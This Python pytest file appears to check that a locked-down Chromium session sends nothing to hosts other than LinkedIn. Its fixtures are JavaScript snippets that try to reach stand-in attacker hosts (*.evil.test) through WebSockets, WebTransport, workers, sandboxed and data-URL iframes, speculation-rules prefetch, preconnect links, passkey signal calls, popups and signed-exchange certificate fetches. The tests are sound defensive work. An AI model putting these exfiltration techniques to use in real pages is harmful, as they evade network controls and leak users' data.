"""Ways to other hosts that are no requests, or that no rule is asked about: taken from pages."""

import json
import socket

import pytest
from exhaustive import more
from hostile import API, SETTING, audited, blob, framed, page, reports
from signed import signed
from test_ways_out import assert_kept, elsewhere

from auditor.demo import Answer
from auditor.settings import ORIGIN

THERE = "/login/login-restriction"


def opens(tag):
    """A script that says where it ran, and opens all there is to send by that is no request."""
    sockets = [f"wss://{tag}.evil.test/", f"{API.replace('https', 'wss')}?{tag}"]
    streams = [f"https://{tag}.evil.test/", API]
    return (
        f"fetch('{ORIGIN}/ran?{tag}', {{mode: 'no-cors'}});"
        f"for (const to of {sockets}) try {{ new WebSocket(to); }} catch {{}}"
        f"for (const to of {streams}) new WebTransport(to).closed.catch(() => 0);"
    )


def in_frame(script):
    """A frame without an address that runs `script`."""
    return f'<iframe srcdoc="{framed(script)}"></iframe>'


WORKERS = f"""
new Worker({blob(opens("blob"))});
new Worker({blob(opens("module"))}, {{type: "module"}});
new Worker("data:text/javascript," + encodeURIComponent({json.dumps(opens("data"))}));
new Worker("/worker.js");
new Worker("/worker.js?module", {{type: "module"}});
new Worker("/uas/login/worker.js");
"""
FRAMES = f"""
{in_frame(WORKERS + opens("srcdoc"))}
<iframe sandbox=allow-scripts srcdoc="{framed(opens("sandboxed"))}"></iframe>
<iframe src="data:text/html,{framed(opens("dataframe"))}"></iframe>
"""


@pytest.mark.parametrize("at", [SETTING.path, *more(THERE)])
def test_nothing_is_sent_but_requests(serve, at):
    """By sockets and streams a setting could be saved: no page opens one, and no worker runs."""
    html = page(WORKERS + opens("page"), FRAMES)
    if at != SETTING.path:
        html = page(f"setTimeout(() => location = '{at}', 100)")

    def override(asked):
        if asked.path.partition("?")[0].endswith("/worker.js"):
            return Answer(opens("file"), content_type="text/javascript")
        if asked.path == THERE:
            return Answer(f"<!doctype html><script>{WORKERS}{opens('page')}</script>")
        return elsewhere(asked)

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
        server, _, _ = audited(serve, html, override, listening=packets)
        packets.setblocking(False)
        with pytest.raises(BlockingIOError):
            packets.recv(1)
    frames = {"srcdoc", "sandboxed", "dataframe"} if at == SETTING.path else set()
    assert {"page", *frames} == reports(server)
    assert {"www.linkedin.com"} == server.greeted
    asked = {asked.path for asked in server.seen}
    assert not [path for path in asked if "worker.js" in path or API.endswith(path[:20])]


def fetch_ahead(tag):
    """Rules by which Chromium fetches a page of another host before anybody asks for it."""
    listed = {"source": "list", "urls": [f"https://{tag}.evil.test/"], "eagerness": "immediate"}
    return json.dumps({"prefetch": [listed]})


AHEAD = f"""
const add = (into, text) => {{
  const script = Object.assign(document.createElement("script"), {{type: "speculationrules"}});
  script.textContent = text;
  into.append(script);
  return into;
}};
add(document.head, {json.dumps(fetch_ahead("added"))});
document.body.append(add(document.createElement("div"), {json.dumps(fetch_ahead("inside"))}));
const late = document.head.appendChild(document.createElement("script"));
late.type = " SpeculationRules ".trim();
late.textContent = {json.dumps(fetch_ahead("filled"))};
const root = document.createElement("div").attachShadow({{mode: "closed"}});
document.body.append(root.host);
add(root, {json.dumps(fetch_ahead("shadowed"))});
root.append(add(document.createElement("p"), {json.dumps(fetch_ahead("within"))}));
const first = document.createElement("div");
first.attachShadow({{mode: "open", clonable: true}});
const copy = document.createElement("p").appendChild(first.cloneNode(true));
document.body.append(copy.parentNode);
add(copy.shadowRoot, {json.dumps(fetch_ahead("cloned"))});
document.querySelector = () => null;
Element.prototype.remove = () => 0;
add(document.head, {json.dumps(fetch_ahead("unseen"))});
"""


def test_no_page_is_fetched_ahead(serve):
    """Rules for fetching pages ahead, in the page or named by a header, are not followed."""
    rules = Answer(fetch_ahead("header"), content_type="application/speculationrules+json")

    def override(asked):
        return rules if asked.path == "/rules.json" else elsewhere(asked)

    inline = f"<script type=speculationrules>{fetch_ahead('inline')}</script>"
    headers = (("speculation-rules", '"/rules.json"'),)
    server, done, _ = audited(serve, page(AHEAD, inline), override, headers=headers)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted


# Chromium itself asks the host that a page names whether it knows a passkey's (`signal…`).
SIGNALS = """
const signal = { rpId: "signal.evil.test", credentialId: "eA", userId: "eA",
  allAcceptedCredentialIds: [] };
const everywhere = [globalThis, document.body.appendChild(document.createElement("iframe"))
  .contentWindow];
for (const one of everywhere) {
  one.PublicKeyCredential?.signalUnknownCredential?.(signal).catch(() => 0);
  one.PublicKeyCredential?.signalAllAcceptedCredentials?.(signal).catch(() => 0);
}
"""


def test_no_host_is_asked_about_passkeys(serve):
    """What a page tells the browser of passkeys asks no other host."""
    server, done, _ = audited(serve, page(SIGNALS), elsewhere)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted


OPENS = """
for (const at of ["https://window.evil.test/", "/leads-away"]) window.open(at);
const link = Object.assign(document.createElement("a"), {href: "https://link.evil.test/"});
document.body.append(Object.assign(link, {target: "_blank", rel: "noopener"}));
link.click();
const form = Object.assign(document.createElement("form"), {action: "https://form.evil.test/"});
document.body.append(Object.assign(form, {target: "_blank"}));
form.submit();
"""


def test_a_page_opens_no_window_by_itself(serve):
    """The host of a window that nobody asked for does not even see a connection."""
    server, done, _ = audited(serve, page(OPENS), elsewhere)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted
    assert not [asked for asked in server.seen if asked.path == "/leads-away"]


CONNECTS = "<link rel=preconnect href='https://connect.evil.test'>"


@pytest.mark.parametrize("kept", [False, *more(True)], ids=["thrown away", "kept"])
def test_no_connection_is_opened_ahead(serve, tmp_path, kept):
    """What a page wants connected or fetched ahead is left, also where the profile is kept."""
    inline = f"<script type=speculationrules>{fetch_ahead('inline')}</script>"
    headers = (("link", "<https://header.evil.test>; rel=preconnect"),)
    more = ("--profile", str(tmp_path / "kept")) if kept else ()
    html = page(more=CONNECTS + inline)
    server, done, _ = audited(serve, html, elsewhere, *more, headers=headers)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted


SIGNED_FRAMES = """addEventListener("load", () => {
  let times = 0;
  const one = () => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.src = `/signed?${times}`;
    if ((times += 1) < 14) setTimeout(one, 60);
  };
  one();
});"""


def test_nobody_is_asked_for_the_certificate_of_a_page(serve):
    """Of a page that says who signed it, which Chromium asks of any host, nothing is taken."""
    server, done, _ = audited(
        serve,
        page(SIGNED_FRAMES),
        lambda asked: (
            signed("https://signer.evil.test/cert?jane")
            if asked.path.startswith("/signed")
            else elsewhere(asked)
        ),
    )
    assert "on" == done.result["state"]
    assert 14 == len([asked for asked in server.seen if asked.path.startswith("/signed")])
    assert {"www.linkedin.com"} == server.greeted
